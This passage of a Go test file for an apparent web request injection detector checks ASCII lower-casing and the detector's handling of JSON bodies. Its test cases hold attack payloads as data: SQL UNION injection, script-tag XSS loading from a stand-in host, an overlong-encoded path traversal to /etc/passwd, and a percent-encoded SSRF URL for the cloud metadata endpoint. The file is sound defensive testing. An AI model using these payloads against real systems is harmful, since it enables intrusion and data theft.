	if n != 2 {
		t.Errorf("walk went on after false: %d calls", n)
	}
}

// TestLowerASCII: ASCII letters lower-cased, every other byte kept, over
// the chunks it works in.
func TestLowerASCII(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"Hello, WORLD-42", "hello, world-42"},
		{"ÀÉ\xc0\xaeZ", "ÀÉ\xc0\xaez"},
		{strings.Repeat("aB", 700) + "Q", strings.Repeat("ab", 700) + "q"},
	} {
		if got := lowerASCII(tc.in); got != tc.want {
			t.Errorf("lowerASCII(%.20q...) = %.20q..., want %.20q...", tc.in, got, tc.want)
		}
	}
}

// TestInjectionBodyFolding: a JSON body's strings are read folded in
// place; the cases where folding changes the length (overlong forms) or
// decoding is needed (escapes, percent-encoding) give the same verdicts.
func TestInjectionBodyFolding(t *testing.T) {
	body := func(s string) Request {
		return Request{Method: "POST", Path: "/", Headers: map[string][]string{"content-type": {"application/json"}}, Body: []byte(s)}
	}
	for _, tc := range []struct {
		name string
		req  Request
		rule string
	}{
		{"upper case", body(`{"Note":"Hi","q":"1 UNION SELECT NULL,NULL--"}`), "sqli.union_select"},
		{"upper case after a long string", body(`{"a":"` + strings.Repeat("Ab", 600) + `","q":"<SCRIPT SRC=//x.example/a.js>"}`), "xss.script_tag"},
		{"overlong forms", body("{\"Path\":\"\xc0\xae\xc0\xae/\xc0\xae\xc0\xae/\xc0\xae\xc0\xae/Etc/Passwd\"}"), "traversal.dot_dot"},
		{"escaped", body(`{"q":"\u003cScript\u003ealert(1)\u003c/script\u003e"}`), "xss.script_tag"},
		{"percent-encoded", body(`{"u":"http://%31%36%39.254.169.254/Latest/meta-data"}`), "ssrf.metadata"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := Injection(&tc.req)
			if len(got) != 1 || got[0].Evidence.Rule != tc.rule || got[0].Evidence.Location != "request.body" {
				t.Errorf("got %+v, want one finding %s in request.body", got, tc.rule)
			}
		})
	}
}
